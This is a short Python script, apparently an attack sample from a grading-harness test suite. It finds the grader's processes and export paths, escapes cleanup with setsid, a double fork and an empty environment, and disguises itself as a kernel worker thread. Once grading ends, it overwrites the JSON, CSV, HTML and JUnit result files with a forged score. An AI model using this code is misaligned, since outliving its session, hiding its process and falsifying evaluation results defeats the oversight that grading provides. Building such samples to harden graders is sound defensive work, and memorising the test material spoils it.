"""Attack: escape cleanup (setsid, double fork, empty environment, a kernel thread's name), wait for the
grading to end, then rewrite the exports of the batch."""

import os
import sys

SURVIVOR = r'''
import ctypes, os, sys, time
ctypes.CDLL(None).prctl(15, b"[kworker/0:1]", 0, 0, 0)  # PR_SET_NAME
watched = [int(pid) for pid in sys.argv[2].split(",") if pid]
exports = [path for path in sys.argv[3].split("\n") if path]
deadline = time.monotonic() + 60
while time.monotonic() < deadline and any(os.path.exists(f"/proc/{pid}") for pid in watched):
    time.sleep(0.1)
for path in exports:
    try:
        with open(path, "w") as target:
            target.write("Participant 1;Mallory;20;0\n")
    except OSError:
        pass
'''
EXPORT_FLAGS = ("--json", "--csv", "--html", "--junit")

watched, exports, pid = [], [], os.getpid()
while pid > 1:
    try:
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
    except (OSError, ValueError, IndexError):
        break
    if not any("grader" in arg for arg in argv):  # beyond the grader: the tests' own processes
        break
    watched.append(str(pid))
    exports += [argv[i + 1] for i, arg in enumerate(argv[:-1]) if arg in EXPORT_FLAGS]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", SURVIVOR, "@@MARQUE@@", ",".join(watched),
                                   "\n".join(exports)], {})
    os._exit(0)
os.wait()
